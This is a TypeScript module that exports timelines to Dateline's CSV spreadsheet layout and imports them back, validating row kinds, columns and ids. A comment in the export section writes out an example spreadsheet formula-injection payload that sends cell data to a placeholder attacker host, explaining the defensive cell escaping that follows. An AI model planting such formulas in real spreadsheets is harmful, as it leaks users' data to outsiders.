/**
 * Dateline's own spreadsheet layout, both ways: `toDatelineCsv` writes a timeline as one sheet,
 * `fromDatelineCsv` reads it back. Every field of format v1 has a place, so a timeline survives
 * the round trip unchanged (empty lists and whitespace around cells excepted).
 *
 * One sheet, one row per thing, the `kind` column saying what the row is:
 *
 * | kind       | what it is                                   | columns it uses                                      |
 * | ---------- | -------------------------------------------- | ---------------------------------------------------- |
 * | `timeline` | the timeline itself (exactly one row)        | title, text (summary), locale, note, source columns (the article) |
 * | `group`    | a lane / legend entry                        | id, name (label), color                              |
 * | `person`   | someone who appears or is quoted             | id, name, role, groups (one key)                     |
 * | `event`    | something that happened                      | id, date, end, title, text (summary), place, people, groups, note, source columns (its first source) |
 * | `source`   | another source of the event above it         | source columns                                       |
 * | `quote`    | words said, belonging to the event above it  | text, by, date, context, source columns (where it was said) |
 * | `via`      | who passed on the quote above it             | source columns                                       |
 *
 * The source columns are `outlet`, `programme`, `source title`, `author`, `source date`, `url`.
 * Several people or groups go in one cell separated by `;` (a `,` works too). Rows whose kind
 * starts with `#` are comments; blank rows are skipped. A value in a column its kind does not
 * use is an error, not dropped.
 */
import { csvFormatRows } from 'd3-dsv';
import { didYouMean } from '../validate/did-you-mean';
import { formatPath } from '../validate/json-locate';
import type {
  EventInput,
  GroupInput,
  PersonInput,
  Problem,
  QuoteInput,
  SourceInput,
  TimelineInput,
} from '../format/types';
import { cellProblem, isBlankRow, normaliseHeader, readCsv, type CsvRow } from './csv-rows';
import { checkConverted, Origins, sortProblems, type Finding, type ImportResult } from './origins';
import { compact, RESERVED_KEYS } from '../format/objects';

/** The columns, in the order the exporter writes them. */
export const DATELINE_COLUMNS = [
  'kind',
  'id',
  'date',
  'end',
  'title',
  'text',
  'by',
  'context',
  'place',
  'people',
  'groups',
  'name',
  'role',
  'color',
  'locale',
  'note',
  'outlet',
  'programme',
  'source title',
  'author',
  'source date',
  'url',
] as const;

type Column = (typeof DATELINE_COLUMNS)[number];

const SOURCE_COLUMNS = [
  'outlet',
  'programme',
  'source title',
  'author',
  'source date',
  'url',
] as const satisfies Column[];

/** Source field → its column. */
const SOURCE_FIELDS: [keyof SourceInput, Column][] = [
  ['outlet', 'outlet'],
  ['programme', 'programme'],
  ['title', 'source title'],
  ['author', 'author'],
  ['date', 'source date'],
  ['url', 'url'],
];

const KINDS = {
  timeline: ['title', 'text', 'locale', 'note', ...SOURCE_COLUMNS],
  group: ['id', 'name', 'color'],
  person: ['id', 'name', 'role', 'groups'],
  event: [
    'id',
    'date',
    'end',
    'title',
    'text',
    'place',
    'people',
    'groups',
    'note',
    ...SOURCE_COLUMNS,
  ],
  source: [...SOURCE_COLUMNS],
  quote: ['text', 'by', 'date', 'context', ...SOURCE_COLUMNS],
  via: [...SOURCE_COLUMNS],
} as const satisfies Record<string, readonly Column[]>;

type Kind = keyof typeof KINDS;

const KIND_NAMES = Object.keys(KINDS) as Kind[];

/** True when a header row is Dateline's layout. */
export function isDatelineHeader(header: readonly string[]): boolean {
  return header.some((h) => normaliseHeader(h) === 'kind');
}

// --- export ----------------------------------------------------------------------------------

/**
 * Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return) as a formula:
 * `=HYPERLINK("https://evil.example/?leak="&A1, …)` would send the sheet away. Such cells are
 * written with a leading ' (OWASP's advice), and so is a cell that already starts with ' and
 * one of those, so that reading takes exactly one ' off (`unguardCell`). Date columns keep a
 * date or number that starts with "-" (a BCE year, -0043-03-15; a negative number) as written:
 * digits and date punctuation call nothing, and the value round-trips as it is.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
const DATE_COLUMNS: ReadonlySet<Column> = new Set(['date', 'end', 'source date']);
const DATE_OR_NUMBER = /^-?[0-9][0-9.:T+\-Z]*$/;

function guardCell(column: Column, value: string): string {
  if (!FORMULA_START.test(value)) return value;
  if (DATE_COLUMNS.has(column) && DATE_OR_NUMBER.test(value)) return value;
  return `'${value}`;
}

/** A cell as written, without the ' that `guardCell` put before a formula-like start. */
function unguardCell(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}

/** Writes a timeline (as a file holds it) in Dateline's spreadsheet layout. */
export function toDatelineCsv(timeline: TimelineInput): string {
  const rows: string[][] = [[...DATELINE_COLUMNS]];
  const row = (kind: Kind, cells: Partial<Record<Column, string | undefined>>) =>
    rows.push(DATELINE_COLUMNS.map((c) => (c === 'kind' ? kind : guardCell(c, cells[c] ?? ''))));
  const sourceCells = (s: SourceInput | undefined) => {
    const cells: Partial<Record<Column, string>> = {};
    if (s)
      for (const [field, column] of SOURCE_FIELDS)
        if (s[field] !== undefined) cells[column] = s[field];
    return cells;
  };
  const list = (keys: string[] | undefined) => keys?.join('; ');

  row('timeline', {
    title: timeline.title,
    text: timeline.summary,
    locale: timeline.locale,
    note: timeline.note,
    ...sourceCells(timeline.source),
  });
  for (const [id, g] of Object.entries(timeline.groups ?? {})) {
    row('group', { id, name: g.label, color: g.color });
  }
  for (const [id, p] of Object.entries(timeline.people ?? {})) {
    row('person', { id, name: p.name, role: p.role, groups: p.group });
  }
  for (const e of timeline.events) {
    const [first, ...more] = e.sources ?? [];
    row('event', {
      id: e.id,
      date: e.date,
      end: e.end,
      title: e.title,
      text: e.summary,
      place: e.place,
      people: list(e.people),
      groups: list(e.groups),
      note: e.note,
      ...sourceCells(first),
    });
    for (const s of more) row('source', sourceCells(s));
    for (const q of e.quotes ?? []) {
      row('quote', {
        text: q.text,
        by: q.by,
        date: q.date,
        context: q.context,
        ...sourceCells(q.source),
      });
      if (q.via) row('via', sourceCells(q.via));
    }
  }
  return `${csvFormatRows(rows)}\n`;
}

// --- import ----------------------------------------------------------------------------------

type Cell = { row: number; line: number; column?: { index: number; name: string } };

export function fromDatelineCsv(text: string): ImportResult {
  return new Reader(text).run();
}

class Reader {
  private readonly table;
  private readonly problems: Problem[] = [];
  private readonly findings: Finding<Cell>[] = [];
  private readonly columns = new Map<Column, number>();
  private readonly origins: Origins<Cell>;
  private readonly header: Cell = { row: 1, line: 1 };

  constructor(text: string) {
    this.table = readCsv(text);
    this.problems.push(...this.table.problems);
    this.origins = new Origins<Cell>(this.header);
  }

  run(): ImportResult {
    this.readHeader();
    const timeline: Partial<TimelineInput> = {};
    const groups: Record<string, GroupInput> = {};
    const people: Record<string, PersonInput> = {};
    const groupRows = new Map<string, number>();
    const personRows = new Map<string, number>();
    let timelineRow: CsvRow | undefined;
    /** The event rows so far; their sources and quotes are added as their rows come. */
    const drafts: { value: EventInput; sources: SourceInput[]; quotes: QuoteInput[] }[] = [];
    let event: ((typeof drafts)[number] & { path: string }) | undefined;
    let quote:
      { list: QuoteInput[]; index: number; path: string; row: CsvRow; hasVia: boolean } | undefined;

    if (this.columns.has('kind')) {
      for (const row of this.table.rows) {
        if (isBlankRow(row.cells)) continue;
        const kind = this.kind(row);
        if (!kind) continue;
        this.checkColumns(row, kind);

        if (kind === 'timeline') {
          if (timelineRow) {
            this.error(
              row,
              'kind',
              `there is already a timeline row (row ${timelineRow.row}); keep one`,
            );
            continue;
          }
          timelineRow = row;
          Object.assign(
            timeline,
            compact({
              title: this.text(row, 'title'),
              summary: this.text(row, 'text'),
              locale: this.text(row, 'locale'),
              source: this.source(row),
              note: this.text(row, 'note'),
            }),
          );
          this.mapObject('$', row, {
            title: 'title',
            summary: 'text',
            locale: 'locale',
            note: 'note',
          });
          this.mapSource('$.source', row);
        } else if (kind === 'group' || kind === 'person') {
          const id = this.text(row, 'id');
          const seen = kind === 'group' ? groupRows : personRows;
          if (id === undefined) {
            this.error(
              row,
              'id',
              `a ${kind} row needs an id, the key events and people use for it`,
            );
            continue;
          }
          if (RESERVED_KEYS.has(id)) {
            this.error(row, 'id', `"${id}" cannot be used as an id; choose another`);
            continue;
          }
          if (seen.has(id)) {
            this.error(row, 'id', `the ${kind} id "${id}" is already used on row ${seen.get(id)}`);
            continue;
          }
          seen.set(id, row.row);
          const path = formatPath([kind === 'group' ? 'groups' : 'people', id]);
          if (kind === 'group') {
            groups[id] = compact({
              label: this.text(row, 'name') ?? '',
              color: this.text(row, 'color'),
            });
            this.mapObject(path, row, { label: 'name', color: 'color' }, 'id');
          } else {
            const personGroups = this.list(row, 'groups');
            if (personGroups.length > 1) {
              this.error(
                row,
                'groups',
                'a person belongs to one group; list more groups on their events',
              );
            }
            people[id] = compact({
              name: this.text(row, 'name') ?? '',
              role: this.text(row, 'role'),
              group: personGroups[0],
            });
            this.mapObject(path, row, { name: 'name', role: 'role', group: 'groups' }, 'id');
          }
        } else if (kind === 'event') {
          const path = `$.events[${drafts.length}]`;
          const first = this.source(row);
          const value: EventInput = {
            id: this.text(row, 'id') ?? '',
            date: this.text(row, 'date') ?? '',
            end: this.text(row, 'end'),
            title: this.text(row, 'title') ?? '',
            summary: this.text(row, 'text'),
            place: this.text(row, 'place'),
            people: this.optionalList(row, 'people'),
            groups: this.optionalList(row, 'groups'),
            note: this.text(row, 'note'),
          };
          this.mapObject(path, row, {
            id: 'id',
            date: 'date',
            end: 'end',
            title: 'title',
            summary: 'text',
            place: 'place',
            people: 'people',
            groups: 'groups',
            note: 'note',
          });
          if (first) this.mapSource(`${path}.sources[0]`, row);
          event = { value, sources: first ? [first] : [], quotes: [], path };
          drafts.push(event);
          quote = undefined;
        } else if (kind === 'source') {
          if (!event) {
            this.error(
              row,
              'kind',
              'a source row belongs to the event above it, but there is none',
            );
            continue;
          }
          this.mapSource(`${event.path}.sources[${event.sources.length}]`, row);
          event.sources.push(this.source(row) ?? {});
        } else if (kind === 'quote') {
          if (!event) {
            this.error(row, 'kind', 'a quote row belongs to the event above it, but there is none');
            continue;
          }
          const path = `${event.path}.quotes[${event.quotes.length}]`;
          const value: QuoteInput = compact({
            text: this.text(row, 'text') ?? '',
            by: this.text(row, 'by') ?? '',
            source: this.source(row),
            context: this.text(row, 'context'),
            date: this.text(row, 'date'),
          });
          this.mapObject(path, row, { text: 'text', by: 'by', context: 'context', date: 'date' });
          if (value.source) this.mapSource(`${path}.source`, row);
          quote = { list: event.quotes, index: event.quotes.length, path, row, hasVia: false };
          event.quotes.push(value);
        } else {
          if (!quote) {
            this.error(row, 'kind', 'a via row belongs to the quote above it, but there is none');
            continue;
          }
          if (quote.hasVia) {
            this.error(row, 'kind', `the quote on row ${quote.row.row} already has a via row`);
            continue;
          }
          quote.hasVia = true;
          // Rebuilt so that the keys keep the format's order: via comes before context.
          const { text, by, source, context, date } = quote.list[quote.index]!;
          const via = this.source(row) ?? {};
          quote.list[quote.index] = compact({ text, by, source, via, context, date });
          this.mapSource(`${quote.path}.via`, row);
        }
      }
      if (!timelineRow) {
        this.findings.push({
          at: this.header,
          message: 'there is no timeline row: add a row of kind "timeline" with the title',
          severity: 'error',
        });
      }
    }

    const events = drafts.map(({ value, sources, quotes }) => {
      const { id, date, end, title, summary, place, people, groups, note } = value;
      return compact({
        id,
        date,
        end,
        title,
        summary,
        place,
        people,
        groups,
        quotes: quotes.length ? quotes : undefined,
        sources: sources.length ? sources : undefined,
        note,
      });
    });
    const value: TimelineInput = compact({
      version: 1 as const,
      title: timeline.title ?? '',
      summary: timeline.summary,
      locale: timeline.locale,
      source: timeline.source,
      note: timeline.note,
      people: Object.keys(people).length ? people : undefined,
      groups: Object.keys(groups).length ? groups : undefined,
      events,
    });
    if (timelineRow) this.origins.set('$', { row: timelineRow.row, line: timelineRow.line });

    const located = checkConverted(value, this.origins, this.findings, {
      key: (c) => `L${c.line}${c.column ? `/C${c.column.index}` : ''}`,
      describe: (c) => (c.column ? `row ${c.row} (${c.column.name})` : `row ${c.row}`),
      mentionOutputPath: false,
    });
    for (const f of located) {
      this.problems.push(cellProblem(f.at, f.at.column, inSheetWords(f.message), f.severity));
    }
    return { value, problems: sortProblems(this.problems) };
  }

  private readHeader(): void {
    const known = new Map<string, Column>(DATELINE_COLUMNS.map((c) => [c, c]));
    this.table.header.forEach((name, index) => {
      if (name === '') return;
      const normal = normaliseHeader(name);
      const column = known.get(normal);
      const at = { row: 1, line: 1, column: { index, name } };
      if (!column) {
        const guess = didYouMean(normal, DATELINE_COLUMNS);
        this.findings.push({
          at,
          message:
            `the column "${name}" is not part of Dateline's layout` +
            (guess
              ? ` — did you mean "${guess}"?`
              : `; the columns are ${DATELINE_COLUMNS.join(', ')}`),
          severity: 'error',
        });
        return;
      }
      if (this.columns.has(column)) {
        this.findings.push({
          at,
          message: `the column "${name}" appears twice (also column ${this.columns.get(column)! + 1})`,
          severity: 'error',
        });
        return;
      }
      this.columns.set(column, index);
    });
    if (!this.columns.has('kind')) {
      this.findings.push({
        at: this.header,
        message: 'the header row has no "kind" column, which says what each row is',
        severity: 'error',
      });
    }
  }

  private kind(row: CsvRow): Kind | undefined {
    const raw = this.raw(row, 'kind').trim();
    if (raw.startsWith('#')) return undefined;
    const kind = raw.toLowerCase();
    if (kind === '') {
      this.error(row, 'kind', `this row has no kind; write one of ${KIND_NAMES.join(', ')}`);
      return undefined;
    }
    if (!(KIND_NAMES as string[]).includes(kind)) {
      const guess = didYouMean(kind, KIND_NAMES);
      this.error(
        row,
        'kind',
        `"${raw}" is not a kind of row; ` +
          (guess ? `did you mean "${guess}"?` : `write one of ${KIND_NAMES.join(', ')}`),
      );
      return undefined;
    }
    return kind as Kind;
  }

  /** Values in columns the kind does not use would be lost: say so. */
  private checkColumns(row: CsvRow, kind: Kind): void {
    const used = new Set<Column>(['kind', ...KINDS[kind]]);
    for (const [column, index] of this.columns) {
      if (used.has(column) || (row.cells[index] ?? '').trim() === '') continue;
      this.error(
        row,
        column,
        `a ${kind} row does not use the "${column}" column; ` +
          `move the value to a row that does, or clear the cell`,
      );
    }
    const width = this.table.header.length;
    if (row.cells.length > width && !isBlankRow(row.cells.slice(width))) {
      this.problems.push(
        cellProblem(
          row,
          { index: width, name: `column ${width + 1}` },
          'this row has more cells than the header has columns; give the column a name or clear the cells',
        ),
      );
    }
  }

  private raw(row: CsvRow, column: Column): string {
    const index = this.columns.get(column);
    return index === undefined ? '' : unguardCell(row.cells[index] ?? '');
  }

  /** A text cell: trimmed, line breaks as "\n", `undefined` when empty. */
  private text(row: CsvRow, column: Column): string | undefined {
    const value = this.raw(row, column).replace(/\r\n?/g, '\n').trim();
    return value === '' ? undefined : value;
  }

  private list(row: CsvRow, column: Column): string[] {
    return this.raw(row, column)
      .split(/[;,]/)
      .map((s) => s.trim())
      .filter(Boolean);
  }

  private optionalList(row: CsvRow, column: Column): string[] | undefined {
    const list = this.list(row, column);
    return list.length ? list : undefined;
  }

  private source(row: CsvRow): SourceInput | undefined {
    const source: SourceInput = {};
    for (const [field, column] of SOURCE_FIELDS) {
      const value = this.text(row, column);
      if (value !== undefined) source[field] = value;
    }
    return Object.keys(source).length ? source : undefined;
  }

  private cell(row: CsvRow, column: Column | undefined): Cell {
    const index = column === undefined ? undefined : this.columns.get(column);
    return index === undefined
      ? { row: row.row, line: row.line }
      : { row: row.row, line: row.line, column: { index, name: this.table.header[index]! } };
  }

  /** Locates an output object on its row and each of its fields on its column. */
  private mapObject(
    path: string,
    row: CsvRow,
    fields: Record<string, Column>,
    self?: Column,
  ): void {
    this.origins.set(path, this.cell(row, self));
    for (const [field, column] of Object.entries(fields)) {
      this.origins.set(path === '$' ? `$.${field}` : `${path}.${field}`, this.cell(row, column));
    }
  }

  private mapSource(path: string, row: CsvRow): void {
    this.mapObject(path, row, Object.fromEntries(SOURCE_FIELDS.map(([f, c]) => [f, c])), 'outlet');
  }

  private error(row: CsvRow, column: Column, message: string): void {
    this.findings.push({ at: this.cell(row, column), message, severity: 'error' });
  }
}

/** The validator speaks of JSON keys; in the sheet, people and groups are rows. */
function inSheetWords(message: string): string {
  return message
    .replace(/add it under "people"/, 'add a person row with that id')
    .replace(/add it under "groups"/, 'add a group row with that id')
    .replace(/there is no such key in "people"/, 'there is no person row with that id')
    .replace(/there is no such key in "groups"/, 'there is no group row with that id')
    .replace(/the timeline has no "people" to refer to/, 'the sheet has no person rows')
    .replace(/the timeline has no "groups" to refer to/, 'the sheet has no group rows');
}
